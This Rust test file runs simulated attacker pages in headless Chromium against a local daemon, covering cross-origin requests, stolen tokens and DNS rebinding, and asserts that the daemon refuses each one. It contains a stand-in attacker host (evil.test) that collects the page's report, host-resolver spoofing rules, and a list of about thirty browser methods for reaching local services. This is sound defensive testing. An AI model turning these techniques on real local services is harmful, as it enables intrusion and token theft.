//! Attacks by a web page in a real browser: the page tries every way to reach the daemon, with and
//! without tokens, and reports what it could read.
//!
//! The test serves the page, under an ordinary name and under one that is rebound to this machine.
//! A recorder sits between the browser and the daemon, so that the test knows what the daemon
//! answered and not only what the browser let the page read. Host resolver rules lead the browser
//! to the recorder instead of the daemon. The recorder forwards every request unchanged.

use std::io::{Read, Write};
use std::iter::repeat;
use std::net::{Shutdown, TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use serde_json::Value as Json;
use vector_tests::browser::chromium;

use super::Outcome::Instead;
use super::attacks;
use super::ground::{Ground, Seen};

/// The script of the attacking page.
const PAGE: &str = include_str!("browser.js");
/// A host name that was the attacker's and now resolves to this machine.
const REBOUND: &str = "rebound.test";
/// How long a page may take. No page has needed this long.
const PATIENCE: Duration = Duration::from_secs(90);

/// The traffic between browser and daemon: the first line of each request and of its response.
type Passed = Arc<Mutex<Vec<(String, String)>>>;

/// Listens on a separate port, forwards connections to the daemon and records them. If `page` is
/// given, the recorder serves it at `/`, as the attacker's server did before its name was rebound.
fn recorder(daemon: u16, page: Option<String>) -> (u16, Passed) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let passed = Passed::default();
    let kept = Arc::clone(&passed);
    thread::spawn(move || {
        for browser in listener.incoming().map_while(Result::ok) {
            let (kept, page) = (Arc::clone(&kept), page.clone());
            thread::spawn(move || {
                if let Some(page) = page.filter(|_| asks_for_the_root(&browser)) {
                    return serve(browser, &page, &channel().0);
                }
                let daemon = TcpStream::connect(("127.0.0.1", daemon)).unwrap();
                let (said, answered) = both_ways(&browser, &daemon);
                let (requests, mut answers) = (requests(&said), answers(&answered));
                if answered.to_ascii_lowercase().contains("access-control-allow") {
                    answers.push("another page may read it".to_owned());
                }
                answers.resize(answers.len().max(requests.len()), String::new());
                let mut kept = kept.lock().unwrap();
                kept.extend(requests.into_iter().chain(repeat(String::new())).zip(answers));
            });
        }
    });
    (port, passed)
}

/// Whether the connection begins with a request for `/`, which the attacker's server answered
/// before the rebinding.
fn asks_for_the_root(browser: &TcpStream) -> bool {
    let mut first = [0; 6];
    while browser.peek(&mut first).is_ok_and(|count| (1..6).contains(&count)) {
        thread::yield_now();
    }
    &first == b"GET / "
}

/// Forwards bytes in both directions until both sides have closed, and returns what each side sent.
fn both_ways(browser: &TcpStream, daemon: &TcpStream) -> (String, String) {
    let copy = |mut from: TcpStream, mut to: TcpStream| {
        let (mut all, mut block) = (Vec::new(), [0; 4096]);
        while let Ok(count @ 1..) = from.read(&mut block) {
            all.extend_from_slice(&block[..count]);
            if to.write_all(&block[..count]).is_err() {
                break;
            }
        }
        let _ = to.shutdown(Shutdown::Write);
        String::from_utf8_lossy(&all).into_owned()
    };
    let clone = |it: &TcpStream| it.try_clone().unwrap();
    let (from, to) = (clone(browser), clone(daemon));
    let said = thread::spawn(move || copy(from, to));
    let answered = copy(clone(daemon), clone(browser));
    let _ = browser.shutdown(Shutdown::Both);
    (said.join().unwrap(), answered)
}

/// Returns the request lines of consecutive requests. The body of one request may directly precede
/// the next request line.
fn requests(said: &str) -> Vec<String> {
    let ends: Vec<&str> = said.split(" HTTP/1.1\r\n").collect();
    let methods = ["GET ", "POST ", "PUT ", "DELETE ", "OPTIONS "];
    let line = |text: &&str| {
        let at = methods.iter().filter_map(|method| text.rfind(method)).max().unwrap_or(0);
        text[at..].to_owned()
    };
    ends[..ends.len() - 1].iter().map(line).collect()
}

/// Returns the status lines of responses, without the protocol version.
fn answers(said: &str) -> Vec<String> {
    let line = |text: &str| text.split("\r\n").next().unwrap_or_default().to_owned();
    said.split("HTTP/1.1 ").skip(1).map(line).collect()
}

/// Serves the page and its worker script, and receives the page's report.
fn attacker(listener: TcpListener, page: String) -> Receiver<Json> {
    let (reports, report) = channel();
    thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            let (page, reports) = (page.clone(), reports.clone());
            thread::spawn(move || serve(stream, &page, &reports));
        }
    });
    report
}

fn serve(mut stream: TcpStream, page: &str, reports: &Sender<Json>) {
    let (mut all, mut block) = (Vec::new(), [0; 4096]);
    let (head, length) = loop {
        let Ok(count @ 1..) = stream.read(&mut block) else { return };
        all.extend_from_slice(&block[..count]);
        if let Some(end) = all.windows(4).position(|four| four == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&all[..end]).into_owned();
            let length = head.lines().find_map(|line| {
                line.to_ascii_lowercase().strip_prefix("content-length: ")?.parse::<usize>().ok()
            });
            all.drain(..end + 4);
            break (head, length.unwrap_or(0));
        }
    };
    while all.len() < length {
        let Ok(count @ 1..) = stream.read(&mut block) else { return };
        all.extend_from_slice(&block[..count]);
    }
    let target = head.split(' ').nth(1).unwrap_or_default();
    let script = format!("const inWorker = true;\n{page}");
    let (kind, body) = match target {
        "/worker.js" => ("text/javascript", script.as_str()),
        "/report" => {
            let _ = reports.send(serde_json::from_slice(&all).unwrap_or_default());
            ("text/plain", "")
        }
        _ => ("text/html", page),
    };
    let body = if kind == "text/html" {
        format!("<!doctype html><body><script>{body}</script>")
    } else {
        body.to_owned()
    };
    let _ = write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
}

struct Visit {
    /// The page's result for each way that it tried.
    report: Json,
    /// The requests that reached the daemon, with their responses.
    passed: Vec<(String, String)>,
}

/// Opens the page under `name` in the browser, with a stolen token or an empty one. None if there
/// is no Chromium.
fn visit(ground: &Ground, name: &str, token: &str) -> Option<Visit> {
    let browser = chromium()?;
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (port, own) = (ground.port(), listener.local_addr().unwrap().port());
    let page = format!(
        "const inWorkerScope = typeof inWorker !== 'undefined';\nconst PORT = {port}, NAME = '{name}', TOKEN = \
         '{token}', PROPOSAL = {}, REPORT = 'http://evil.test:{own}/report';\n{PAGE}",
        ground.proposal
    );
    let is_rebound = name == REBOUND;
    let (recorder, passed) = recorder(port, is_rebound.then(|| page.clone()));
    let report = attacker(listener, page);
    let address = if is_rebound {
        format!("http://{REBOUND}:{port}/")
    } else {
        format!("http://evil.test:{own}/")
    };
    // The rebound name has our own port, as it would after the page's name is rebound to this
    // machine.
    let rules = format!(
        "MAP 127.0.0.1:{port} 127.0.0.1:{recorder}, MAP localhost:{port} 127.0.0.1:{recorder}, \
         MAP {REBOUND}:{port} 127.0.0.1:{recorder}, MAP *.test 127.0.0.1"
    );
    let profile = tempfile::tempdir().unwrap();
    let mut child = Command::new(browser)
        .args([
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
        ])
        .args([
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-popup-blocking",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("--host-resolver-rules={rules}"))
        .arg(address)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("the browser starts");
    let report = report.recv_timeout(PATIENCE);
    let _ = child.kill();
    let _ = child.wait();
    let report = report.expect("the page reports");
    let passed = passed.lock().unwrap().clone();
    Some(Visit { report, passed })
}

/// Asserts that the page could read nothing, and that the daemon refused each request that reached
/// it.
#[track_caller]
fn is_held(visit: &Visit, is_rebound: bool, ways: &[&str]) {
    let tried = visit.report.as_object().expect("it reports").clone();
    for way in ways {
        let said = tried.get(*way).unwrap_or_else(|| panic!("{way} was not tried: {tried:?}"));
        // A page that the browser considers same-origin may read the refusal, and nothing else.
        let is_refusal =
            said["text"].as_str().is_some_and(|it| it.starts_with("{\"kind\":\"forbidden\""));
        assert!(said["read"] == false || is_rebound && is_refusal, "{way} has read: {said}");
    }
    assert!(!visit.passed.is_empty(), "nothing reached the daemon, so that nothing was refused");
    for (request, answer) in &visit.passed {
        let is_refusal = answer.starts_with('4');
        assert!(is_refusal || answer.is_empty(), "{request}: {answer}");
    }
    let refused = visit.passed.iter().filter(|(_, answer)| !answer.is_empty()).count();
    assert!(refused * 2 > visit.passed.len(), "{:?}", visit.passed);
}

/// Opens the page and checks the given ways of its report.
fn tried(ground: &Ground, token: &str, ways: &[&str]) -> Vec<Seen> {
    if let Some(visit) = visit(ground, "127.0.0.1", token) {
        is_held(&visit, false, ways);
    }
    vec![Seen::Instead]
}

const HELD: super::Outcome =
    Instead("each request is refused with 4xx or not sent, and no answer can be read");

attacks! { served: true;
    every_way_without_a_token: WebPage,
        "forms, fetch, XHR, pictures, scripts, styles, frames, beacons, prefetch, WebSocket, EventSource, workers, windows"
        => HELD,
        |ground| tried(ground, "", &["form urlencoded", "form text/plain", "form multipart", "form get", "fetch get",
            "fetch simple post", "fetch json post", "fetch put", "fetch no-cors get", "fetch no-cors post", "xhr get",
            "xhr post", "image", "script", "style", "iframe", "object", "beacon text", "beacon json", "prefetch",
            "preload", "websocket", "eventsource", "worker fetch", "worker importScripts", "service worker",
            "module import", "window", "keepalive", "health", "mcp post"]);
    every_way_with_a_stolen_token: WebPage,
        "the same with the person's token, wherever a page can put it" => HELD,
        |ground| {
            let token = ground.person.clone();
            tried(ground, &token, &["fetch get", "fetch json post", "fetch put", "xhr get", "xhr post",
                "worker fetch", "fetch no-cors get", "fetch no-cors post", "eventsource", "websocket", "mcp post",
                "keepalive"])
        };
    a_rebound_name: WebPage, "a page whose name leads to this machine, so that the browser calls it the same page"
        => HELD,
        |ground| {
            let token = ground.person.clone();
            if let Some(visit) = visit(ground, REBOUND, &token) {
                is_held(&visit, true, &["window", "fetch get", "fetch json post", "fetch put", "xhr get", "health"]);
            }
            vec![Seen::Instead]
        };
}
